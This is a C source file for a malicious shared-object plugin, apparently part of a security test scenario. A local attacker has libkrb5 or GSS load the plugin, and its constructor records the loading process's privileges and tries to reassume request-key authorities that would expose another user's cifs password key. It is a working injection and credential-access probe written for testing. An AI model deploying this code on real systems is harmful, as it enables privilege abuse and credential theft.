// SPDX-License-Identifier: GPL-2.0
/*
 * evil_plugin.so: the module a local attacker (scenario 47) names in a
 * krb5.conf [plugins] section and in a GSS mech configuration of her own.
 * It needs no entry point: libkrb5 and the GSS mechglue dlopen() a module
 * before they look for one, and our constructor runs then.  It records
 * who loaded it in "marks/" beside itself (a directory anyone may write
 * to): one file per process, naming its uids, whether it holds
 * capabilities or no_new_privs, and whether it could act with a
 * request-key authority.  A mark is the attack's success; the scenario
 * also loads it once from a krb5 tool of her own, to show marks appear.
 */
#include <dlfcn.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEYCTL_DESCRIBE 6
#define KEYCTL_READ 11
#define KEYCTL_ASSUME_AUTHORITY 16
#define KEY_SPEC_SESSION_KEYRING (-3)
#define KEY_SPEC_REQKEY_AUTH_KEY (-7)

/*
 * Could we take a request-key authority back?  An authorisation key we
 * possess (request-key links it into the helper's session keyring) may
 * be assumed by anyone holding it: with one, the keys of cifs's
 * .cifs_spnego keyring are searched as their possessor, another user's
 * password key during her leg 1 among them.  Returns how many we took.
 */
static int reassume_any(FILE *out)
{
	int32_t ids[256];
	char desc[256];
	long n, i, r;
	int took = 0;

	n = syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING, ids,
		    sizeof(ids));
	if (n < 0)
		return 0;
	if (n > (long)sizeof(ids))
		n = sizeof(ids);
	for (i = 0; i < n / (long)sizeof(ids[0]); i++) {
		r = syscall(SYS_keyctl, KEYCTL_DESCRIBE, ids[i], desc,
			    sizeof(desc) - 1);
		if (r < 0)
			continue;
		desc[r < (long)sizeof(desc) ? r : (long)sizeof(desc) - 1] = 0;
		if (strncmp(desc, ".request_key_auth;", 18))
			continue;
		r = syscall(SYS_keyctl, KEYCTL_ASSUME_AUTHORITY, ids[i]);
		fprintf(out, "reassumed %d %s\n", ids[i], r >= 0 ? "yes" : "no");
		took += r >= 0;
	}
	return took;
}

/* the Uid:, CapEff: and NoNewPrivs: lines of our own status */
static void status_lines(FILE *out)
{
	char line[256];
	FILE *st = fopen("/proc/self/status", "re");

	if (!st)
		return;
	while (fgets(line, sizeof(line), st))
		if (!strncmp(line, "Uid:", 4) || !strncmp(line, "CapEff:", 7) ||
		    !strncmp(line, "NoNewPrivs:", 11))
			fputs(line, out);
	fclose(st);
}

__attribute__((constructor)) static void evil_mark(void)
{
	char self[PATH_MAX], path[PATH_MAX + 64], comm[64] = "?";
	char auth[256] = "";
	Dl_info info;
	FILE *out;
	long r;
	int fd;

	if (!dladdr((void *)evil_mark, &info) || !info.dli_fname ||
	    strlen(info.dli_fname) >= sizeof(self))
		return;
	strcpy(self, info.dli_fname);
	snprintf(path, sizeof(path), "%s/marks/mark.%d", dirname(self),
		 (int)getpid());
	fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	out = fdopen(fd, "a");
	if (!out) {
		close(fd);
		return;
	}
	fd = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		r = read(fd, comm, sizeof(comm) - 1);
		comm[r > 0 ? r : 0] = 0;
		comm[strcspn(comm, "\n")] = 0;
		close(fd);
	}
	r = syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_REQKEY_AUTH_KEY,
		    auth, sizeof(auth) - 1);
	fprintf(out, "pid %d comm %s uid %d euid %d reqkey-authority %s\n",
		(int)getpid(), comm, (int)getuid(), (int)geteuid(),
		r >= 0 ? auth : "none");
	if (!reassume_any(out))
		fprintf(out, "reassumed none\n");
	status_lines(out);
	fclose(out);
}
